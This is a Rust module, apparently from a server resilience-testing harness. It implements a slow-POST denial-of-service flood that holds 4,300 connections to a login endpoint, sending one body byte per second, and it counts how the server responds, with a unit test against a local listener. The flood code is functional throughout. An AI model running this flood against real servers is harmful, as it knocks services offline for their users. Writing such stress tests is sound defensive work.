//! A flood of requests that do not end: each announces a body and sends a byte of it per second.

use super::counts::Counts;
use super::requests::{ATTACKER, is_refusal};
use crate::setup::api::Target;
use std::io;
use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;

/// The flood's name.
pub(super) const NAME: &str = "slow_bodies";
/// Unfinished requests at the same time.
pub(super) const SOCKETS: usize = 4_300;
/// Between two bytes of a body.
const BYTE_EVERY: Duration = Duration::from_secs(1);
/// Before a connection that ended is opened again.
const REOPEN: Duration = Duration::from_secs(5);
const HEAD: &[u8] = b"POST /auth/login HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1000\r\n\r\n{";

/// Floods until it is over.
pub(super) async fn flood(target: &Target, sockets: usize, counts: &Counts) {
    let server = match target.resolve() {
        Ok(server) => server,
        Err(reason) => return counts.lost(reason),
    };
    let hold_again = async || {
        loop {
            match hold(server).await {
                Ok(Some(status)) if is_refusal(status) => counts.refused(1),
                Ok(Some(_)) => counts.answered(1),
                Ok(None) => counts.lost("the server closed it without an answer".to_owned()),
                Err(error) => counts.lost(error.to_string()),
            }
            tokio::time::sleep(REOPEN).await;
        }
    };
    let all = futures_util::future::join_all((0..sockets).map(|_| hold_again()));
    tokio::select! {
        () = counts.over() => {}
        _ = all => {}
    }
}

/// Holds one request until the server answers it or ends its connection; the answer's status.
async fn hold(server: SocketAddr) -> io::Result<Option<u16>> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(ATTACKER, 0))?;
    let mut stream = socket.connect(server).await?;
    stream.write_all(HEAD).await?;
    let mut answer = [0; 256];
    loop {
        match tokio::time::timeout(BYTE_EVERY, stream.read(&mut answer)).await {
            Err(_) => stream.write_all(b" ").await?,
            Ok(length) => return Ok(status(&answer[..length?])),
        }
    }
}

/// The status of `HTTP/1.1 408 …`.
fn status(answer: &[u8]) -> Option<u16> {
    std::str::from_utf8(answer.get(9..12)?).ok()?.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn sends_unfinished_bodies_and_counts_how_they_ended() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let target = Target::parse(&format!("http://{}", listener.local_addr().unwrap())).unwrap();
        let counts = Counts::default();
        let serve = async {
            for answer in [&b"HTTP/1.1 408 Request Timeout\r\n\r\n"[..], b"HTTP/1.1 400 Bad Request\r\n\r\n", b""] {
                let (mut socket, peer) = listener.accept().await.unwrap();
                assert_eq!(peer.ip(), ATTACKER);
                let mut head = [0; 1_024];
                let length = socket.read(&mut head).await.unwrap();
                assert_eq!(&head[..length], HEAD);
                socket.write_all(answer).await.unwrap();
            }
            while counts.asked().lost == 0 {
                tokio::task::yield_now().await;
            }
            counts.end();
        };
        tokio::join!(serve, flood(&target, 3, &counts));
        let asked = counts.asked();
        assert_eq!((asked.answered, asked.refused, asked.lost), (1, 1, 1));
    }
}
